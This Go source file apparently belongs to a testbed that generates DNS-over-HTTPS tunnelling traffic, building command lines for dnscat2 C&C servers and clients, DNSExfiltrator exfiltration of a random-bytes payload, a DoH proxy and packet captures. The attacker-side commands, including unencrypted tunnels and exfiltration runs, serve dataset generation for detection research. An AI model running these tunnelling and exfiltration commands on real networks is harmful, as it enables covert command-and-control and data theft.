// Package tools renders the command lines of the programs that make up
// the testbed: the dnscat2 and DNSExfiltrator servers and clients, the
// doh-stub proxy and the packet capturers.  Every builder returns a
// structured remote.Command; nothing here runs anything.
package tools

import (
	"fmt"
	"path"
	"strconv"
	"strings"

	shellquote "github.com/kballard/go-shellquote"

	"dohgen/config"
	"dohgen/internal/remote"
)

// HTTPSPort is the DoH port the capture filter keeps.
const HTTPSPort = 443

// Process names killed during reset.
var (
	// serverNames covers every interpreter and binary a server or
	// linux client may leave behind.
	serverNames = []string{"ruby", "dnscat2", "dnscat", "conda", "python"}

	// windowsVictimNames covers the proxy started through conda.bat.
	windowsVictimNames = []string{"doh-stub"}
)

// Toolbox builds commands from the configured tool locations.
type Toolbox struct {
	cfg *config.Config
}

// New returns a Toolbox for cfg.
func New(cfg *config.Config) *Toolbox { return &Toolbox{cfg: cfg} }

// ── Servers (attacker) ───────────────────────────────────────────────

// Dnscat2Server starts the dnscat2 C&C server for the tunnel domain.
func (t *Toolbox) Dnscat2Server() remote.Command {
	return remote.Cmd(
		"ruby", path.Join(t.cfg.Dnscat2ServerDir, "dnscat2.rb"),
		t.cfg.Domain, "--security=open",
	).AsRoot()
}

// ExfilServer starts the DNSExfiltrator receiver.
func (t *Toolbox) ExfilServer() remote.Command {
	return remote.Cmd(
		t.cfg.ExfilServerPython, path.Join(t.cfg.ExfilServerDir, "dnsexfiltrator.py"),
		"-d", t.cfg.Domain, "-p", t.cfg.ExfilPassword,
	).AsRoot()
}

// ── Victim side ──────────────────────────────────────────────────────

// Proxy starts doh-stub listening on proxyIP and forwarding to
// resolver.  extra is the scenario's proxy_args, split like a shell
// would split it.
func (t *Toolbox) Proxy(proxyIP, resolver, extra string) (remote.Command, error) {
	args := []string{
		t.cfg.CondaPath, "run", "-n", t.cfg.ProxyEnv, "doh-stub",
		"--listen-address", proxyIP,
		"--listen-port", strconv.Itoa(t.cfg.ProxyPort),
		"--domain", resolver,
	}
	if strings.TrimSpace(extra) != "" {
		words, err := shellquote.Split(extra)
		if err != nil {
			return remote.Command{}, fmt.Errorf("proxy_args %q: %w", extra, err)
		}
		args = append(args, words...)
	}
	return remote.Cmd(args...), nil
}

// Dnscat2Client starts the dnscat client pointed at the local proxy.
func (t *Toolbox) Dnscat2Client(proxyIP string, delay int) remote.Command {
	dns := fmt.Sprintf("server=%s,port=%d,domain=%s", proxyIP, t.cfg.ProxyPort, t.cfg.Domain)
	return remote.Cmd(
		path.Join(t.cfg.Dnscat2ClientDir, "dnscat"),
		"--no-encryption", "--dns="+dns, "--delay="+strconv.Itoa(delay),
	)
}

// Capture records the proxy↔resolver DoH traffic into file.
func (t *Toolbox) Capture(p remote.Platform, proxyIP, resolverIP, file string) remote.Command {
	filter := []string{
		"host", proxyIP, "and", "host", resolverIP,
		"and", "port", strconv.Itoa(HTTPSPort),
	}
	if p == remote.Windows {
		args := []string{t.cfg.WinDumpPath, "-n", "-XX", "-s", "0", "-w", file, "-i", t.cfg.CaptureInterface}
		return remote.Cmd(append(args, filter...)...).AsRoot()
	}
	args := append([]string{"tcpdump", "-n", "-i", t.cfg.CaptureInterface}, filter...)
	return remote.Cmd(append(args, "-w", file)...).AsRoot()
}

// CapturePath places name in the configured capture directory using
// the separator of platform p.
func (t *Toolbox) CapturePath(p remote.Platform, name string) string {
	if p == remote.Windows {
		return strings.TrimRight(t.cfg.PcapDir, `\/`) + `\` + name
	}
	return path.Join(t.cfg.PcapDir, name)
}

// Payload writes size random bytes to the exfiltration payload file.
func (t *Toolbox) Payload(p remote.Platform, size int) remote.Command {
	if p == remote.Windows {
		script := fmt.Sprintf(
			"$out = New-Object byte[] %d; (New-Object Random).NextBytes($out); [IO.File]::WriteAllBytes('%s', $out)",
			size, strings.ReplaceAll(t.cfg.ExfilPayloadPath, "'", "''"))
		return remote.Cmd("powershell", "-NoProfile", "-Command", script)
	}
	return remote.Cmd("sh", "-c", `head -c "$1" /dev/urandom > "$2"`, "payload",
		strconv.Itoa(size), t.cfg.ExfilPayloadPath)
}

// Exfiltrate runs the client-side exfiltration script against the
// proxy and blocks until the whole payload has been sent.
func (t *Toolbox) Exfiltrate(p remote.Platform, proxyIP string, throttle, reqSize int) remote.Command {
	shell, script := "pwsh", path.Join(t.cfg.ExfilClientDir, "dnsexfiltratorScript.ps1")
	if p == remote.Windows {
		shell = "powershell"
		script = strings.TrimRight(t.cfg.ExfilClientDir, `\/`) + `\dnsexfiltratorScript.ps1`
	}
	return remote.Cmd(shell, "-NoProfile", "-File", script,
		t.cfg.ExfilPayloadPath, t.cfg.Domain, t.cfg.ExfilPassword, proxyIP,
		strconv.Itoa(throttle), strconv.Itoa(reqSize))
}

// ── Reset ────────────────────────────────────────────────────────────

// ToolNames lists what reset kills on a host of platform p, capture
// excluded.
func ToolNames(p remote.Platform) []string {
	if p == remote.Windows {
		return append([]string(nil), windowsVictimNames...)
	}
	return append([]string(nil), serverNames...)
}

// CaptureName is the process name of the capturer on platform p.
func CaptureName(p remote.Platform) string {
	if p == remote.Windows {
		return "WinDump"
	}
	return "tcpdump"
}
